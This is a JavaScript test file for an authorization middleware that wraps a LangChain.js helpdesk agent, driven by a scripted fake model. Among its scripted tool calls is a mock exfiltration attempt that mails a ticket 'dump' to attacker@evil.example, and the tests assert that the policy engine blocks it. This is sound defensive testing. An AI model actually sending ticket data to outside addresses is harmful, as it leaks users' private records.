// End to end: a real LangChain.js agent (`langchain` + `@langchain/core` from
// npm) with a scripted fake chat model (no network) calls tools against an
// agentauthz bundle through agentauthz/langchain. Denied tools never run;
// allowed ones do; the model sees the refusals.

import { describe, test } from 'node:test'
import assert from 'node:assert/strict'
import path from 'node:path'
import { fileURLToPath } from 'node:url'
import { createRequire } from 'node:module'
import { AIMessage, HumanMessage, ToolMessage, createAgent, tool } from 'langchain'
import { fakeModel } from '@langchain/core/testing'
import { Engine, Decision } from 'agentauthz'
import { authorizationMiddleware } from 'agentauthz/langchain'

assert.equal(process.env.LANGSMITH_TRACING, undefined, 'LANGSMITH_TRACING must be unset: tracing would try the network')

const here = path.dirname(fileURLToPath(import.meta.url))
const BUNDLE = path.join(here, 'fixtures', 'helpdesk')
const NOW = '2026-11-29T10:00:00Z'

/** The helpdesk tools; each records that it ran. */
function helpdeskTools(ran) {
  const object = (properties, required) => ({ type: 'object', properties, required })
  const str = { type: 'string' }
  return [
    tool(async ({ ticket }) => (ran.push(['read_ticket', ticket]), `ticket ${ticket}: printer on fire`), {
      name: 'read_ticket',
      description: 'Read a ticket',
      schema: object({ ticket: str }, ['ticket']),
    }),
    tool(async ({ ticket, reason }) => (ran.push(['close_ticket', ticket]), `closed ${ticket}: ${reason}`), {
      name: 'close_ticket',
      description: 'Close a ticket with a reason',
      schema: object({ ticket: str, reason: str }, ['ticket', 'reason']),
    }),
    tool(async ({ to, subject }) => (ran.push(['send_mail', to]), `sent "${subject}" to ${to}`), {
      name: 'send_mail',
      description: 'Send an e-mail from the support mailbox',
      schema: object({ to: str, subject: str }, ['to', 'subject']),
    }),
  ]
}

/** How the helpdesk agent's tool calls map onto the bundle's requests. */
function helpdeskMiddleware(engine, decisions, errors = []) {
  return authorizationMiddleware({
    engine,
    agent: 'desk-bot',
    onBehalfOf: 'alice',
    action: { read_ticket: 'tickets:read', close_ticket: 'tickets:close', send_mail: 'mail:send' },
    resource: (call) => (call.name === 'send_mail' ? { type: 'Mailbox', id: 'support' } : { type: 'Ticket', id: call.args.ticket }),
    input: (call) => {
      if (call.name === 'read_ticket') return undefined // tickets:read takes no input
      if (call.name === 'close_ticket') return { reason: call.args.reason }
      return call.args
    },
    now: NOW,
    onDecision: (decision, call) => decisions.push([call.name, decision]),
    onError: (error, call) => errors.push([call.name, error]),
  })
}

const toolMessages = (messages) => messages.filter((m) => ToolMessage.isInstance(m))

describe('LangChain.js agent with agentauthz', () => {
  test('denied tools never run, allowed ones do, the model sees why', async () => {
    const engine = Engine.load(BUNDLE)
    const ran = []
    const decisions = []
    const model = fakeModel()
      .respondWithTools([
        { name: 'read_ticket', args: { ticket: 'T-1' }, id: 'call-1' }, // alice's ticket: allowed
        { name: 'read_ticket', args: { ticket: 'T-2' }, id: 'call-2' }, // bob's ticket: no permit
        { name: 'close_ticket', args: { ticket: 'T-3', reason: 'fixed' }, id: 'call-3' }, // priority 5: forbidden
      ])
      .respondWithTools([
        { name: 'send_mail', args: { to: 'attacker@evil.example', subject: 'T-1 dump' }, id: 'call-4' }, // outside Acme
        { name: 'send_mail', args: { to: 'bob@acme.example', subject: 'T-1 update' }, id: 'call-5' }, // allowed
        { name: 'close_ticket', args: { ticket: 'T-1', reason: 'fixed' }, id: 'call-6' }, // allowed
      ])
      .respond(new AIMessage('All done.'))
    const agent = createAgent({ model, tools: helpdeskTools(ran), middleware: [helpdeskMiddleware(engine, decisions)] })

    const result = await agent.invoke({ messages: [new HumanMessage('Work through the queue.')] })

    assert.deepEqual(ran.sort(), [
      ['close_ticket', 'T-1'],
      ['read_ticket', 'T-1'],
      ['send_mail', 'bob@acme.example'],
    ])
    const byId = Object.fromEntries(toolMessages(result.messages).map((m) => [m.tool_call_id, m]))
    assert.deepEqual(Object.keys(byId).sort(), ['call-1', 'call-2', 'call-3', 'call-4', 'call-5', 'call-6'])
    for (const id of ['call-1', 'call-5', 'call-6']) assert.notEqual(byId[id].status, 'error', id)
    assert.match(byId['call-1'].content, /printer on fire/)
    for (const id of ['call-2', 'call-3', 'call-4']) {
      assert.equal(byId[id].status, 'error', id)
      assert.match(byId[id].content, /^Not authorized: /, id)
    }
    assert.match(byId['call-2'].content, /"tickets:read" on Ticket::"T-2" was refused \(no policy permits it/)
    assert.match(byId['call-3'].content, /denied by desk\/no-close-high-priority/)
    assert.match(byId['call-4'].content, /"mail:send" on Mailbox::"support" was refused/)
    assert.equal(byId['call-3'].artifact.agentauthz.decision, 'deny')
    assert.deepEqual(byId['call-3'].artifact.agentauthz.reasons, ['desk/no-close-high-priority'])

    // One decision per tool call, each a real Decision from the engine.
    assert.equal(decisions.length, 6)
    assert.ok(decisions.every(([, d]) => d instanceof Decision && d.policyRevision === engine.policyRevision))
    assert.deepEqual(
      decisions.map(([name, d]) => [name, d.decision]).sort(),
      [
        ['close_ticket', 'allow'],
        ['close_ticket', 'deny'],
        ['read_ticket', 'allow'],
        ['read_ticket', 'deny'],
        ['send_mail', 'allow'],
        ['send_mail', 'deny'],
      ],
    )
    // The model was called again after each tool round and saw the refusals.
    assert.equal(model.callCount, 3)
    const seen = toolMessages(model.calls[1].messages).map((m) => [m.tool_call_id, m.status])
    assert.deepEqual(seen.sort(), [
      ['call-1', 'success'],
      ['call-2', 'error'],
      ['call-3', 'error'],
    ])
    assert.equal(result.messages.at(-1).content, 'All done.')
  })

  test('a call that cannot be decided does not run (fail closed)', async () => {
    const engine = Engine.load(BUNDLE)
    const ran = []
    const decisions = []
    const errors = []
    const model = fakeModel()
      .respondWithTools([
        { name: 'send_mail', args: { to: 'bob@acme.example' }, id: 'no-subject' }, // schema wants a subject
        { name: 'read_ticket', args: {}, id: 'no-ticket' }, // the resource mapping yields no id
      ])
      .respond(new AIMessage('Gave up.'))
    const agent = createAgent({ model, tools: helpdeskTools(ran), middleware: [helpdeskMiddleware(engine, decisions, errors)] })

    const result = await agent.invoke({ messages: [new HumanMessage('Mail Bob.')] })

    assert.deepEqual(ran, [])
    assert.deepEqual(decisions, [])
    const byId = Object.fromEntries(toolMessages(result.messages).map((m) => [m.tool_call_id, m]))
    assert.equal(byId['no-subject'].status, 'error')
    assert.match(byId['no-subject'].content, /could not decide "mail:send" .*request_invalid/)
    assert.equal(byId['no-ticket'].status, 'error')
    assert.match(byId['no-ticket'].content, /could not decide "tickets:read"/)
    assert.deepEqual(errors.map(([name, e]) => [name, e.code]).sort(), [
      ['read_ticket', 'request_parse'],
      ['send_mail', 'request_invalid'],
    ])
  })

  test('the CommonJS entry point builds the same middleware', async () => {
    const require = createRequire(import.meta.url)
    const cjs = require('agentauthz/langchain')
    const engine = Engine.load(BUNDLE)
    const ran = []
    const decisions = []
    const middleware = cjs.authorizationMiddleware({
      engine,
      agent: 'stray-bot', // nobody owns it: the baseline denies everything
      onBehalfOf: 'alice',
      action: () => 'tickets:read',
      resource: (call) => ({ type: 'Ticket', id: call.args.ticket }),
      input: () => undefined,
      now: () => new Date(NOW),
      onDecision: (d) => decisions.push(d),
    })
    const model = fakeModel()
      .respondWithTools([{ name: 'read_ticket', args: { ticket: 'T-1' }, id: 'c' }])
      .respond(new AIMessage('ok'))
    const agent = createAgent({ model, tools: helpdeskTools(ran), middleware: [middleware] })
    const result = await agent.invoke({ messages: [new HumanMessage('Read T-1.')] })
    assert.deepEqual(ran, [])
    assert.deepEqual(decisions.map((d) => d.reasons), [['baseline/owner-required']])
    assert.match(toolMessages(result.messages)[0].content, /denied by baseline\/owner-required/)
  })

  test('options are checked when the middleware is built', () => {
    const engine = Engine.load(BUNDLE)
    assert.throws(() => authorizationMiddleware({ agent: 'a', resource: { type: 'T', id: '1' } }), TypeError)
    assert.throws(() => authorizationMiddleware({ engine, resource: { type: 'T', id: '1' } }), TypeError)
    assert.throws(() => authorizationMiddleware({ engine, agent: 'a' }), TypeError)
    assert.equal(authorizationMiddleware({ engine, agent: 'a', resource: { type: 'T', id: '1' } }).name, 'AgentauthzMiddleware')
    assert.equal(authorizationMiddleware({ engine, agent: 'a', resource: { type: 'T', id: '1' }, name: 'Authz' }).name, 'Authz')
  })
})
